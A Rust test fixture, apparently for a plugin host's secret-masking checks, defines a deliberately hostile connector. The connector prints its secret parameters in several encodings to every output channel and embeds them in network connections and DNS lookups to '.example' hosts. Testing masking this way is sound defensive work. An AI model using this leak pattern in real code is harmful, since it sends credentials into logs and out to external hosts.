//! Is given secrets, and shows them in every place where a guest can show something. The host must mask them in each.
//!
//! The parameter `how` says where: `shows`, `fails`, `invalid`, `panics`, `problem`.

use naughty_connector::ferrule::connector::types::{Postponement, Rejection};
use naughty_connector::ferrule::connector::{logging, metrics, net, status};
use naughty_connector::{
    Batch, Capability, Description, Error, Naughty, Opened, Outcomes, Problem, Session, description, naughty,
};

struct TellsSecrets;

const NAMES: [&str; 3] = ["file", "stdin", "variable"];

/// The parameters of the session, for calls that are not given them.
static PARAMETERS: std::sync::Mutex<String> = std::sync::Mutex::new(String::new());

/// The text of a member of an object; the tests write none with escapes.
fn value<'a>(parameters: &'a str, name: &str) -> &'a str {
    let start = parameters.split(&format!("\"{name}\":\"")).nth(1).unwrap_or_default();
    start.split('"').next().unwrap_or_default()
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let bits = chunk.iter().fold(0u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for digit in 0..4 {
            let index = (bits >> (18 - 6 * digit)) & 63;
            text.push(if digit <= chunk.len() { DIGITS[index as usize] as char } else { '=' });
        }
    }
    text
}

/// All values, in several forms.
fn everything(parameters: &str) -> String {
    let mut text = parameters.to_owned();
    for name in NAMES {
        let value = value(parameters, name);
        let percent: String = value.bytes().map(|byte| format!("%{byte:02X}")).collect();
        text.push_str(&format!(
            " {value} {} {} {percent} {value:?}",
            base64(value.as_bytes()),
            base64(format!("user:{value}").as_bytes())
        ));
    }
    text
}

fn show(parameters: &str) {
    let all = everything(parameters);
    println!("{all}");
    eprintln!("{all}");
    // Longer than a line is kept.
    println!("{}{all}", "x".repeat(8170));
    logging::log(logging::Level::Error, &all, &all, &[(all.clone(), all.clone())]);
    status::unhealthy(&all);
    for name in NAMES {
        let value = value(parameters, name);
        status::raise(status::Severity::Critical, value, &all);
        metrics::count("shown", &[("value".into(), value.into())], 1);
        metrics::gauge("level", &[("value".into(), all.clone())], 1.0);
        let _ = net::connect(&format!("{value}.example"), 1, None);
        let _ = net::resolve(&format!("{value}.example"));
    }
}

impl Naughty for TellsSecrets {
    fn describe() -> Description {
        let asks = NAMES.map(|name| Capability {
            kind: "secret".into(),
            target: format!("{{{name}}}"),
            reason: "a test".into(),
        });
        Description { name: "tells-secrets".into(), capabilities: asks.into(), ..description() }
    }

    fn validate(_: String, _: String, stream: String) -> Vec<Problem> {
        if value(&stream, "how") != "problem" {
            return Vec::new();
        }
        vec![Problem { scope: "stream".into(), path: "/file".into(), position: None, message: everything(&stream) }]
    }

    fn open(session: Session) -> Result<Opened, Error> {
        let parameters = session.parameters;
        *PARAMETERS.lock().unwrap() = parameters.clone();
        show(&parameters);
        let all = everything(&parameters);
        match value(&parameters, "how") {
            "fails" => Err(Error::Failed(all)),
            "invalid" => Err(Error::Invalid(all)),
            "panics" => panic!("{all}"),
            _ => Ok(Opened { replayable: false, properties: Vec::new() }),
        }
    }

    fn write(records: Batch) -> Result<Outcomes, Error> {
        let parameters = PARAMETERS.lock().unwrap().clone();
        let reason = everything(&parameters);
        show(&parameters);
        let mut outcomes = Outcomes { delivered: Vec::new(), retry: Vec::new(), rejected: Vec::new() };
        for token in records.tokens {
            if token % 2 == 0 {
                outcomes.rejected.push(Rejection { record_ref: token, reason: reason.clone() });
            } else {
                outcomes.retry.push(Postponement { token, after_ms: Some(10), reason: reason.clone() });
            }
        }
        Ok(outcomes)
    }
}

naughty!(TellsSecrets);
